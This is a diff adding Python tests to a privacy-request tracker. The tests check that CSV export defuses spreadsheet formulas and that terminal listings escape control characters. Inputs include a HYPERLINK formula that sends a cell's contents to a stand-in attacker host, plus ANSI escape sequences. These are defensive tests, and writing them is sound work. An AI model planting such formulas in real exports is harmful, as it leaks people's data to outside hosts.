@@ -254,6 +254,35 @@ def test_export_csv_and_json_carry_every_request(log: Path) -> None:
     assert data[0]["attention"] == "overdue" and data[2]["attention"] == "due_soon"
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Aino")', "+358 40 123", "-2+3", "@SUM(A1)"]
+
+
+def test_export_csv_cells_are_text_in_a_spreadsheet(log: Path) -> None:
+    for subject in FORMULAS:
+        rq.add_request(log, type="access", subject=subject, received="2025-05-20", now=TODAY)
+    rq.close_request(log, 1, outcome="=1+1 answered", now=TODAY)
+    rq.add_request(log, type="access", subject="Late", received="2025-04-01", now=TODAY)
+    found = rq.list_requests(log, include_closed=True)
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(rq.requests_csv(found, TODAY)))}
+    assert [rows[str(i)]["subject"] for i in range(1, 5)] == ["'" + s for s in FORMULAS]
+    assert rows["1"]["outcome"] == "'=1+1 answered"
+    # Numbers stay numbers and dates dates: an overdue request's days left are negative.
+    assert rows["5"]["received"] == "2025-04-01" and int(rows["5"]["days_left"]) < 0
+    assert rows["5"]["days_left"].startswith("-")
+    # JSON keeps the text as recorded.
+    by_id = {r["id"]: r for r in json.loads(rq.requests_json(found, TODAY))}
+    assert [by_id[i]["subject"] for i in range(1, 5)] == FORMULAS
+
+
+def test_the_listing_escapes_control_characters(log: Path) -> None:
+    rq.add_request(log, type="access", subject="Aino \x1b[2J\x1b]0;x\x07 V", received="2025-05-20",
+                   now=TODAY)  # fmt: skip
+    for colour in (False, True):
+        text = rq.render_lines(rq.listing_lines(rq.list_requests(log), TODAY, "en"), colour=colour)
+        assert "\x1b[2J" not in text and "\x07" not in text and "\x1b]" not in text
+        assert "Aino \\x1b[2J\\x1b]0;x\\x07 V" in text
+
+
 # --- two processes at once ------------------------------------------------------------------------
 
 WORKER = """
